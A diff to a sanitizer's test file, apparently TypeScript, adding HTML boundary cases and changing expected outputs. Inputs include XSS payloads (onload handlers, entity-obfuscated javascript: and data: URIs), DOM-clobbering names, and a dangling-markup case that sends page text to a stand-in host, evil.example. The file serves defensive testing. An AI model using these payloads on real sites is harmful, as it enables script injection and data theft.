@@ -70,19 +70,42 @@ export const boundaryCases: readonly BoundaryCase[] = [
     expected: '',
   },
   {
+    name: 'markup that opens with a frameset, which leaves no body',
+    html: '<frameset onload="alert(1)"><frame src="javascript:alert(1)"></frameset>after',
+    expected: '',
+  },
+  {
+    name: 'names that would clobber the document or a form',
+    keepForms: true,
+    html: '<img name="cookie" alt="c"><img id="getElementById" name="body" alt="g"><a id="location">l</a><form name="querySelector"><input name="elements"><input name="action"><input id="r" name="reason"></form><p id="comments-list-0">kept</p>',
+    expected:
+      '<img alt="c"><img alt="g">l<form><input><input><input id="r" name="reason"></form><p id="comments-list-0">kept</p>',
+  },
+  {
     name: 'javascript: in any case, with entities and whitespace',
     html: '<a href="javascript:alert(1)">1</a><a href="JaVaScRiPt:alert(1)">2</a><a href="java&#x09;script:alert(1)">3</a><a href="&#106;avascript:alert(1)">4</a><a href=" javascript:alert(1)">5</a><a href="jav&#x0A;ascript:alert(1)">6</a>',
-    expected: '<a>1</a><a>2</a><a>3</a><a>4</a><a>5</a><a>6</a>',
+    expected: '123456',
   },
   {
     name: 'data: and vbscript: links',
     html: '<a href="data:text/html;base64,PHNjcmlwdD4=">d</a><a href="DATA:text/html,x">D</a><a href="vbscript:msgbox(1)">v</a><a href="blob:https://x/y">b</a>',
-    expected: '<a>d</a><a>D</a><a>v</a><a>b</a>',
+    expected: 'dDvb',
   },
   {
     name: 'data: in src as in href: images, SVG ones included, and data: elsewhere',
     html: '<img src="data:image/png;base64,iVBORw0KGgo=" alt="p"><img src="data:image/svg+xml;base64,PHN2Zy8+" alt="s"><img src=" DATA:image/svg+xml,%3Csvg%3E" alt="u"><img src="data:text/html,x" alt="h"><blockquote cite="data:text/html,x">q</blockquote>',
     expected: '<img alt="p"><img alt="s"><img alt="u"><img alt="h"><blockquote>q</blockquote>',
+  },
+  {
+    name: 'dangling markup: an address holding a line break or a less-than',
+    html: '<img alt="d" src="https://evil.example/log?\n<p>secret</p>"><a href="https://evil.example/?q=<b>x</b>">link</a><a href="https://example.org/a\rb">r</a><p>after</p>',
+    expected: '<img alt="d">linkr<p>after</p>',
+  },
+  {
+    name: 'a link without an address becomes its text, unless it carries data or is an anchor',
+    html: '<a href="data:image/png;base64,iVBO" data-lightbox="set"><img src="/images/t.jpg" alt="t"></a><a href="javascript:x()" class="c" title="t">text</a><a id="top">an anchor</a>',
+    expected:
+      '<a data-lightbox="set"><img src="/images/t.jpg" alt="t"></a>text<a id="top">an anchor</a>',
   },
   {
     name: 'relative, protocol-relative, mail and empty links',
